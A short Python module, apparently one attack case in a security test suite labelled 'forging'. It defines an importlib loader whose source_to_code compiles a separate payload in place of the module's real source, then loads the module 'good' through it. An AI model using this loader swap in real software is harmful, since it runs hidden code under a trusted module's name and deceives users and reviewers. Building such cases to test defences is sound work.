"""A loader's source_to_code compiles something else."""
CATEGORY = "forging"
REACH = "net"

from importlib.machinery import SourceFileLoader
from importlib.util import module_from_spec, spec_from_file_location

from . import payload


class Loader(SourceFileLoader):

    def source_to_code(self, data, path, *, _optimize=-1):
        return super().source_to_code(payload.SOURCE.encode(), path)


def attack():
    import good
    spec = spec_from_file_location(
        "good", good.__file__, loader=Loader("good", good.__file__))
    spec.loader.exec_module(module_from_spec(spec))
